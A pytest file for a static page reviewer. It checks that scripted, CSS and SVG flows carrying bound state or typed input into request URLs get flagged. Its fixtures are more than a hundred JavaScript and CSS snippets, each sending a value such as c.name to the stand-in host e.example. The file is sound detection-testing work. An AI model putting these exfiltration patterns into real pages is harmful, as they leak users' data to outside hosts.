"""State that travels to a request URL by every way the language and the page give (containers,
closures, bound and default arguments, globals, messages, the DOM, CSS variables, exceptions,
iterators): the static layer proves each flow (``exfil.state-to-url``), not only a possible one.
The ways are data: one line per way, the same block around each."""

from __future__ import annotations

import pytest

from flowui_sandbox.sandbox.review import review_static

HEAD = "<p data-bind='c.name'></p><script>\n"

#: name -> a script that sends the state value c.name in a URL to e.example.
FLOWS = {
 "map": "const m = new Map(); m.set('k', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + m.get('k');",
 "map_ctor": "const m = new Map([['k', flowUi.get('c.name')]]); new Image().src = 'https://e.example/?' + m.get('k');",
 "map_iter": "const m = new Map(); m.set('k', flowUi.get('c.name')); for (const [k, v] of m) new Image().src = 'https://e.example/?' + v;",
 "set": "const s = new Set(); s.add(flowUi.get('c.name')); new Image().src = 'https://e.example/?' + [...s][0];",
 "weakmap": "const key = {}; const w = new WeakMap(); w.set(key, flowUi.get('c.name')); new Image().src = 'https://e.example/?' + w.get(key);",
 "class_field": "class A { constructor(v) { this.v = v; } url() { return 'https://e.example/?' + this.v; } } new Image().src = new A(flowUi.get('c.name')).url();",
 "getter": "const o = { get v() { return flowUi.get('c.name'); } }; new Image().src = 'https://e.example/?' + o.v;",
 "promise": "Promise.resolve(flowUi.get('c.name')).then((v) => { new Image().src = 'https://e.example/?' + v; });",
 "async": "(async () => { const v = await flowUi.get('c.name'); new Image().src = 'https://e.example/?' + v; })();",
 "json": "const v = JSON.parse(JSON.stringify({a: flowUi.get('c.name')})).a; new Image().src = 'https://e.example/?' + v;",
 "array_from": "const v = Array.from(flowUi.get('c.name')).join(''); new Image().src = 'https://e.example/?' + v;",
 "usp": "const p = new URLSearchParams({n: flowUi.get('c.name')}); new Image().src = 'https://e.example/?' + p;",
 "usp_append": "const p = new URLSearchParams(); p.append('n', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + p.toString();",
 "url_obj": "const u = new URL('https://e.example/'); u.searchParams.set('n', flowUi.get('c.name')); new Image().src = u.href;",
 "url_obj2": "const u = new URL('https://e.example/'); u.search = flowUi.get('c.name'); new Image().src = u;",
 "generator": "function* g() { yield flowUi.get('c.name'); } new Image().src = 'https://e.example/?' + g().next().value;",
 "reduce": "const v = [flowUi.get('c.name')].reduce((a, b) => a + b, ''); new Image().src = 'https://e.example/?' + v;",
 "closure": "function mk(v) { return () => 'https://e.example/?' + v; } const f = mk(flowUi.get('c.name')); new Image().src = f();",
 "proxy": "const p = new Proxy({}, { get: () => flowUi.get('c.name') }); new Image().src = 'https://e.example/?' + p.x;",
 "structured": "const v = structuredClone(flowUi.get('c.name')); new Image().src = 'https://e.example/?' + v;",
 "textencoder": "const v = new TextEncoder().encode(flowUi.get('c.name')).join('.'); new Image().src = 'https://e.example/?' + v;",
 "charcodes": "const v = [...flowUi.get('c.name')].map(c => c.charCodeAt(0)).join('-'); new Image().src = 'https://e.example/?' + v;",
 "symbol": "const k = Symbol('x'); const o = {[k]: flowUi.get('c.name')}; new Image().src = 'https://e.example/?' + o[k];",
 "object_entries": "const o = {a: flowUi.get('c.name')}; for (const [k, v] of Object.entries(o)) new Image().src = 'https://e.example/?' + v;",
 "object_values": "const o = {a: flowUi.get('c.name')}; new Image().src = 'https://e.example/?' + Object.values(o)[0];",
 "dom_dataset": "document.body.dataset.x = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + document.body.dataset.x;",
 "dom_attr": "document.body.setAttribute('data-x', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + document.body.getAttribute('data-x');",
 "dom_text": "const d = document.createElement('div'); d.textContent = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + d.textContent;",
 "css_var": "document.body.style.setProperty('--x', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + getComputedStyle(document.body).getPropertyValue('--x');",
 "window_name": "window.name = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + window.name;",
 "hash": "location.hash = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + location.hash;",
 "tagged": "const t = (s, ...v) => s[0] + v[0]; new Image().src = t`https://e.example/?${flowUi.get('c.name')}`;",
 "onchange": "flowUi.onChange((st) => { new Image().src = 'https://e.example/?' + st.c.name; });",
 "bound_text": "new Image().src = 'https://e.example/?' + document.querySelector('[data-bind]').textContent;",
 "timer_then_img": ("const v = flowUi.get('c.name'); setTimeout(() => { const i = document.createElement('img');"
                    " i.setAttribute('src', `https://e.example/${v}`); document.body.append(i); }, 10);"),
 "srcset": "const i = new Image(); i.srcset = 'https://e.example/' + flowUi.get('c.name') + ' 1x';",
 "style_bg": "document.body.style.background = 'url(https://e.example/' + flowUi.get('c.name') + ')';",
 "link_prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'https://e.example/' + flowUi.get('c.name'); document.head.append(l);",
 "anchor_ping": "const a = document.createElement('a'); a.ping = 'https://e.example/' + flowUi.get('c.name');",
 "innerhtml": "document.body.innerHTML = '<img src=\"https://e.example/' + flowUi.get('c.name') + '\">';",
 "array_destructure": "const [v] = [flowUi.get('c.name')]; new Image().src = 'https://e.example/?' + v;",
 "spread_obj": "const o = {...{a: flowUi.get('c.name')}}; new Image().src = 'https://e.example/?' + o.a;",
 "assign_obj": "const o = Object.assign({}, {a: flowUi.get('c.name')}); new Image().src = 'https://e.example/?' + o.a;",
 "fn_prop": "function f() {} f.v = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + f.v;",
 "global_var": "var g1 = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + window.g1;",
 "globalThis_prop": "globalThis.q = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + q;",
 "string_methods": "const v = flowUi.get('c.name').split('').reverse().join('').padStart(3).toUpperCase(); new Image().src = 'https://e.example/?' + v;",
 "number_conv": "const v = parseInt(flowUi.get('c.name'), 36).toString(2); new Image().src = 'https://e.example/?' + v;",
 "btoa": "new Image().src = 'https://e.example/?' + btoa(unescape(encodeURIComponent(flowUi.get('c.name'))));",
 "state_prop": "new Image().src = 'https://e.example/?' + flowUi.state.c.name;",
 "map_foreach": "const m = new Map(); m.set('k', flowUi.get('c.name')); m.forEach((v) => { new Image().src = 'https://e.example/?' + v; });",
 "array_push_iter": "const a = []; a.push(flowUi.get('c.name')); a.forEach((v) => { new Image().src = 'https://e.example/?' + v; });",
 "event_detail": "document.addEventListener('x', (e) => { new Image().src = 'https://e.example/?' + e.detail; }); document.dispatchEvent(new CustomEvent('x', {detail: flowUi.get('c.name')}));",
 "postmessage_self": "window.addEventListener('message', (e) => { new Image().src = 'https://e.example/?' + e.data; }); window.postMessage(flowUi.get('c.name'), '*');",
 "message_channel": "const ch = new MessageChannel(); ch.port1.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; ch.port2.postMessage(flowUi.get('c.name'));",
 "queue_microtask": "let v; queueMicrotask(() => { new Image().src = 'https://e.example/?' + v; }); v = flowUi.get('c.name');",
 "raf": "const v = flowUi.get('c.name'); requestAnimationFrame(function () { this; new Image().src = 'https://e.example/?' + v; });",
 "bind_arg": "function s(v) { new Image().src = 'https://e.example/?' + v; } s.bind(null, flowUi.get('c.name'))();",
 "call": "function s(v) { new Image().src = 'https://e.example/?' + v; } s.call(null, flowUi.get('c.name'));",
 "apply": "function s(v) { new Image().src = 'https://e.example/?' + v; } s.apply(null, [flowUi.get('c.name')]);",
 "default_param": "function s(v = flowUi.get('c.name')) { new Image().src = 'https://e.example/?' + v; } s();",
 "arguments": "function s() { new Image().src = 'https://e.example/?' + arguments[0]; } s(flowUi.get('c.name'));",
 "rest": "function s(...a) { new Image().src = 'https://e.example/?' + a[0]; } s(flowUi.get('c.name'));",
 "ternary": "const v = Math.random() > 2 ? '' : flowUi.get('c.name'); new Image().src = 'https://e.example/?' + v;",
 "logical": "const v = null ?? flowUi.get('c.name'); new Image().src = 'https://e.example/?' + v;",
 "comma": "const v = (0, flowUi.get)('c.name'); new Image().src = 'https://e.example/?' + v;",
 "optional_call": "const v = flowUi?.get?.('c.name'); new Image().src = 'https://e.example/?' + v;",
 "with_eval_free_index": "const parts = {}; parts['a'] = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + parts.a;",
 "getter_class": "class A { get v() { return flowUi.get('c.name'); } } new Image().src = 'https://e.example/?' + new A().v;",
 "static_class": "class A { static v = flowUi.get('c.name'); } new Image().src = 'https://e.example/?' + A.v;",
 "label_for_of_string": "let out = ''; for (const ch of flowUi.get('c.name')) out += ch; new Image().src = 'https://e.example/?' + out;",
 "while_index": "const s = flowUi.get('c.name'); let o = ''; let i = 0; while (i < s.length) { o += s[i]; i++; } new Image().src = 'https://e.example/?' + o;",
 "switch": "let o; switch (1) { case 1: o = flowUi.get('c.name'); } new Image().src = 'https://e.example/?' + o;",
 "try_catch": "try { throw flowUi.get('c.name'); } catch (e) { new Image().src = 'https://e.example/?' + e; }",
 "error_msg": "try { throw new Error(flowUi.get('c.name')); } catch (e) { new Image().src = 'https://e.example/?' + e.message; }",
 "audio": "new Audio('https://e.example/' + flowUi.get('c.name'));",
 "video_poster": "const v = document.createElement('video'); v.poster = 'https://e.example/' + flowUi.get('c.name');",
 "svg_image": "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', 'https://e.example/' + flowUi.get('c.name'));",
 "font_face": "new FontFace('x', 'url(https://e.example/' + flowUi.get('c.name') + ')').load();",
 "css_insert": "document.styleSheets[0]?.insertRule('body{background:url(https://e.example/' + flowUi.get('c.name') + ')}');",
 "svg_set": ("const a = document.createElementNS('http://www.w3.org/2000/svg', 'set'); a.setAttribute('attributeName', 'href');"
             " a.setAttribute('to', 'https://e.example/' + flowUi.get('c.name')); document.querySelector('image').append(a);"),
 "map_entries": "const m = new Map(Object.entries({a: flowUi.get('c.name')})); new Image().src = 'https://e.example/?' + m.get('a');",
 "map_values": "const m = new Map(); m.set('a', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + Array.from(m.values())[0];",
 "map_spread": "const m = new Map(); m.set('a', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + [...m][0][1];",
 "fromentries": "const m = new Map([['a', flowUi.get('c.name')]]); new Image().src = 'https://e.example/?' + Object.fromEntries(m).a;",
 "weakref": "const r = new WeakRef({v: flowUi.get('c.name')}); new Image().src = 'https://e.example/?' + r.deref().v;",
 "map_in_obj": "const o = {m: new Map()}; o.m.set('a', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + o.m.get('a');",
 "map_var_reassign": "let m; m = new Map(); m.set('a', flowUi.get('c.name')); new Image().src = 'https://e.example/?' + m.get('a');",
 "map_param": "function put(m) { m.set('a', flowUi.get('c.name')); } const m2 = new Map(); put(m2); new Image().src = 'https://e.example/?' + m2.get('a');",
 "set_values": "const s = new Set([flowUi.get('c.name')]); new Image().src = 'https://e.example/?' + s.values().next().value;",
 "array_at": "const a = [flowUi.get('c.name')]; new Image().src = 'https://e.example/?' + a.at(0);",
 "array_find": "const a = [flowUi.get('c.name')]; new Image().src = 'https://e.example/?' + a.find(Boolean);",
 "object_keys_value": "const o = {}; o[flowUi.get('c.name')] = 1; new Image().src = 'https://e.example/?' + Object.keys(o)[0];",
 "key_of_obj_literal": "const o = {[flowUi.get('c.name')]: 1}; for (const k in o) new Image().src = 'https://e.example/?' + k;",
 "map_key": "const m = new Map([[flowUi.get('c.name'), 1]]); for (const k of m.keys()) new Image().src = 'https://e.example/?' + k;",
 "class_private": "class A { #v = flowUi.get('c.name'); u() { return 'https://e.example/?' + this.#v; } } new Image().src = new A().u();",
 "static_method": "class A { static u(v) { return 'https://e.example/?' + v; } } new Image().src = A.u(flowUi.get('c.name'));",
 "getter_defineprop": "const o = {}; Object.defineProperty(o, 'v', { get: () => flowUi.get('c.name') }); new Image().src = 'https://e.example/?' + o.v;",
 "async_gen": "async function* g() { yield flowUi.get('c.name'); } (async () => { for await (const v of g()) new Image().src = 'https://e.example/?' + v; })();",
 "promise_ctor": "new Promise((r) => r(flowUi.get('c.name'))).then((v) => { new Image().src = 'https://e.example/?' + v; });",
 "await_then": "(async () => { const v = await Promise.resolve(flowUi.get('c.name')); new Image().src = 'https://e.example/?' + v; })();",
 "settimeout_closure": "let v = ''; setTimeout(() => { v = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + v; });",
 "array_sort": "const a = [flowUi.get('c.name'), 'x'].sort(); new Image().src = 'https://e.example/?' + a.join();",
 "string_replace_fn": "const v = 'X'.replace('X', () => flowUi.get('c.name')); new Image().src = 'https://e.example/?' + v;",
 "regexp_exec": "const v = /(.*)/.exec(flowUi.get('c.name'))[1]; new Image().src = 'https://e.example/?' + v;",
 "encodeuri_chain": "new Image().src = 'https://e.example/?' + encodeURIComponent(escape(flowUi.get('c.name')));",
 "date_tostring": "const v = new Date(flowUi.get('c.name')).toISOString(); new Image().src = 'https://e.example/?' + v;",
 "num": "const v = Number(flowUi.get('c.name')) * 2; new Image().src = 'https://e.example/?' + v;",
 "blob_url": "const u = URL.createObjectURL(new Blob([flowUi.get('c.name')])); new Image().src = 'https://e.example/?' + u;",
 "img_src_url_obj": "const u = new URL('https://e.example/'); u.pathname = flowUi.get('c.name'); const i = new Image(); i.src = u.toString();",
 "srcset_template": "const i = new Image(); i.srcset = `https://e.example/${flowUi.get('c.name')} 2x`;",
 "insert_adjacent": "document.body.insertAdjacentHTML('beforeend', `<img src=\"https://e.example/${flowUi.get('c.name')}\">`);",
 "outer_html": "document.getElementById('x') && (document.getElementById('x').outerHTML = '<img src=https://e.example/' + flowUi.get('c.name') + '>');",
 "assign_to_new_element": "Object.assign(document.createElement('img'), {src: 'https://e.example/?' + flowUi.get('c.name')});",
 "dom_append_img": "const i = document.createElement('img'); i.src = 'https://e.example/?' + flowUi.get('c.name'); document.body.append(i);",
 "css_text": "document.body.style.cssText = 'background:url(https://e.example/' + flowUi.get('c.name') + ')';",
 "style_sheet_replace": "const s = new CSSStyleSheet(); s.replaceSync('body{background:url(https://e.example/' + flowUi.get('c.name') + ')}'); document.adoptedStyleSheets = [s];",
 "anchor_click": "const a = document.createElement('a'); a.href = 'https://e.example/?' + flowUi.get('c.name'); a.click();",
 "form_action": "const f = document.createElement('form'); f.action = 'https://e.example/?' + flowUi.get('c.name'); f.submit();",
 "meta_refresh_js": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://e.example/' + flowUi.get('c.name'); document.head.append(m);",
 "favicon_link": "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = 'https://e.example/?' + flowUi.get('c.name'); document.head.append(l);",
 "bare_onmessage": "onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; postMessage(flowUi.get('c.name'), '*');",
 "self_onmessage": "self.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; self.postMessage(flowUi.get('c.name'), '*');",
 "obj_method_closure": "const o = { mk(v) { return () => 'https://e.example/?' + v; } }; const f = o.mk(flowUi.get('c.name')); new Image().src = f();",
 "arrow_closure_chain": "const mk = (v) => () => 'https://e.example/?' + v; new Image().src = mk(flowUi.get('c.name'))();",
 "define_on_window": "Object.defineProperty(window, 'x', { get: () => flowUi.get('c.name') }); new Image().src = 'https://e.example/?' + x;",
 "promise_then_chain": "new Promise((ok) => setTimeout(() => ok(flowUi.get('c.name')))).then((v) => v.toUpperCase()).then((v) => { new Image().src = 'https://e.example/?' + v; });",
 "promise_await": "(async () => { const v = await new Promise((ok) => ok(flowUi.get('c.name'))); new Image().src = 'https://e.example/?' + v; })();",
 "bind_then_call": "function s(p, v) { new Image().src = p + v; } const b = s.bind(null, 'https://e.example/?'); b(flowUi.get('c.name'));",
 "global_then_bare": "window['q'] = flowUi.get('c.name'); new Image().src = 'https://e.example/?' + q;",
 "keys_spread": "const o = {}; o[flowUi.get('c.name')] = true; new Image().src = 'https://e.example/?' + [...Object.keys(o)].join();",
 "channel_reverse": "const {port1, port2} = new MessageChannel(); port2.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; port1.postMessage(flowUi.get('c.name'));",
 "broadcast": "const b = new BroadcastChannel('x'); b.onmessage = (e) => { new Image().src = 'https://e.example/?' + e.data; }; b.postMessage(flowUi.get('c.name'));",
 "openurl": "flowUi.openUrl('https://e.example/?' + flowUi.get('c.name'));",
}


@pytest.mark.parametrize("way", sorted(FLOWS))
def test_the_flow_is_proved(way):
    found = review_static(HEAD + FLOWS[way] + "\n</script>", file="b.html", fields=["c.name"])
    proved = [f for f in found if f.rule == "exfil.state-to-url"]
    assert proved and all(any(p.startswith("c.name") for p in f.paths) for f in proved), [(f.rule, f.paths, f.message) for f in found]


#: The same ways with what the user types in place of the state (the ways that read the state by
#: another spelling, or only the state, aside).
TYPED = {way: code.replace("flowUi.get('c.name')", "document.getElementById('q').value")
         for way, code in FLOWS.items() if "flowUi.get('c.name')" in code}
TYPED_HEAD = "<input id=q><script>\ndocument.getElementById('q').addEventListener('change', () => {\n"


@pytest.mark.parametrize("way", sorted(TYPED))
def test_the_flow_of_what_the_user_types_is_proved(way):
    found = review_static(TYPED_HEAD + TYPED[way] + "\n});\n</script>", file="b.html")
    assert any(f.rule == "exfil.input-to-url" and "input:#q" in f.paths for f in found), [(f.rule, f.paths, f.message) for f in found]


@pytest.mark.parametrize("markup", [
    "<svg><image width=9 height=9><set attributeName='href' to='https://e.example/s.png'/></image></svg>",
    "<svg><image width=9 height=9><animate attributeName='xlink:href' values='x.png;https://e.example/a.png' dur='1s'/></image></svg>",
    "<svg><filter id=f><feImage href='https://e.example/i.png'/></filter></svg>",
])
def test_an_svg_load_in_markup_names_its_host(markup):
    """An SVG animation of an href, and feImage (SVG keeps its case: feImage, not feimage), load
    the URL in Chromium and Firefox (fixtures/review/exfil_svg_animation)."""
    assert "e.example" in {h for f in review_static(markup, file="b.html") if f.rule == "url.external" for h in f.hosts}


def test_an_svg_animation_of_anything_else_is_no_load():
    markup = "<svg><rect width=9 height=9><set attributeName='fill' to='https://e.example/s.png'/></rect></svg>"
    assert not [f for f in review_static(markup, file="b.html") if f.rule.startswith(("url.", "exfil."))]


#: Style rules that request an image only with some state, no script at all: one bit per rule.
CSS_BITS = {
    "data_show_marker": ("<p class=v data-show='c.vip'>vip</p><style>.v[data-flow-ui-shown] { background: url(https://e.example/v.png) }</style>",
                         ["c.vip"]),
    "has_marker": ("<div data-show='c.paid'></div><style>body:has([data-flow-ui-shown]) { background: url(https://e.example/p.png) }</style>",
                   ["c.paid"]),
    "empty": ("<p class=m data-bind='c.mail'></p><style>.m:empty { background: url(https://e.example/none.png) }</style>", ["c.mail"]),
    "not_empty": ("<p data-bind='c.a'></p><p class=m data-bind='c.mail'></p><style>p.m:not(:empty) { cursor: url(https://e.example/c.cur), auto }</style>",
                  ["c.mail"]),
    "upper_case_and_escaped": ("<p class=v data-show='c.vip'></p><style>.v[DATA-FLOW-UI\\-SHOWN] { background: url(https://e.example/v.png) }</style>",
                               ["c.vip"]),
    "nested_rule": ("<p class=m data-bind='c.mail'></p><style>.m { &:EMPTY { background: url(https://e.example/n.png) } }</style>", ["c.mail"]),
    "in_media_and_is": ("<p class=m data-bind='c.mail'></p><style>@media screen { .m:is(:empty) { list-style: url(https://e.example/n.png) } }</style>",
                        ["c.mail"]),
    "container": ("<div class=c><span data-bind='c.mail'></span></div><style>.c { container-type: inline-size } "
                  "@container (min-width: 120px) { span { background: url(https://e.example/long.png) } }</style>", ["c.mail"]),
}


@pytest.mark.parametrize("way", sorted(CSS_BITS))
def test_a_style_rule_that_loads_only_with_some_state_is_reported_with_its_paths(way):
    source, paths = CSS_BITS[way]
    found = [f for f in review_static(source, file="b.html") if f.rule == "exfil.css-state-selector"]
    assert [(f.paths, f.hosts) for f in found] == [(paths, ["e.example"])], found


#: A rule nested 300 deep elsewhere in the sheet, so that the sheet is read flat (css.MAX_DEPTH).
DEEP = "x" + ":is(" * 300 + "a" + ")" * 300 + "{color:red} "


@pytest.mark.parametrize("way", sorted(CSS_BITS))
def test_a_state_rule_is_still_reported_when_the_sheet_is_padded_past_the_nesting_bound(way):
    """Padding a sheet past the bound makes it read flat: the state's bits must not go unreported then."""
    source, paths = CSS_BITS[way]
    padded = source.replace("<style>", "<style>" + DEEP)
    found = [f for f in review_static(padded, file="b.html") if f.rule == "exfil.css-state-selector"]
    assert found and all(set(paths) <= set(f.paths) and f.hosts == ["e.example"] for f in found), found
    # The rule itself nested 40 rules deep.
    css = source[source.index("<style>") + 7:source.index("</style>")]
    deep = source.replace(css, "div{" * 40 + "& " + css + "}" * 40) if not css.startswith("@") else None
    if deep:
        found = [f for f in review_static(deep, file="b.html") if f.rule == "exfil.css-state-selector"]
        assert found and all(set(paths) <= set(f.paths) for f in found), found


@pytest.mark.parametrize("source", [
    # a data: image leaves nothing behind
    "<p class=m data-bind='c.mail'></p><style>.m:empty { background: url('data:image/gif;base64,R0lGODlhAQABAAAAACw=') }</style>",
    # nothing bound: no state to tell
    "<ul class=l></ul><style>.l:empty { background: url(https://e.example/empty.png) }</style>",
    # a state-free condition
    "<p data-bind='c.mail'></p><style>p:hover { background: url(https://e.example/h.png) }</style>",
    # :empty on an element nothing is bound in, beside one that is bound
    "<p data-bind='c.mail'></p><ul class=l></ul><style>.l:empty { background: url(https://e.example/empty.png) }</style>",
    # the words in a string, not a condition
    "<p data-bind='c.mail'></p><style>[title=':empty'], [title='data-flow-ui-shown'] { background: url(https://e.example/t.png) }</style>",
])
def test_a_style_rule_whose_load_does_not_depend_on_the_state_is_not(source):
    assert not [f for f in review_static(source, file="b.html") if f.rule == "exfil.css-state-selector"]


def test_the_document_handed_to_a_function_that_writes_the_state_into_it_stays_the_document():
    """An argument holds what its parameter holds only for the scripts' own names: the document,
    the window or location handed on would otherwise make every read of them the state."""
    source = (HEAD + "function setup(doc) { doc.title = flowUi.get('c.name'); } setup(document);\n"
              "new Image().src = 'https://e.example/' + document.referrer;\n</script>")
    assert not [f for f in review_static(source, file="b.html", fields=["c.name"]) if f.rule == "exfil.state-to-url"]
